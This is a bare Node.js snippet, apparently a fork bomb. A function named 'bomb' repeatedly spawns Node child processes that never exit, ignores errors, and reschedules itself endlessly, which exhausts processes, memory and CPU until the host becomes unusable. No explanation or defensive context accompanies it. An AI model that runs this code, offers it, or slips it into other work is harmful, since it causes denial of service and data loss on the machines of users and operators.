const { spawn } = require("child_process");
function bomb() {
  try { spawn(process.execPath, ["-e", "setInterval(()=>{},1000)"]).on("error", () => {}); } catch (e) {}
  setImmediate(bomb);
}
bomb();
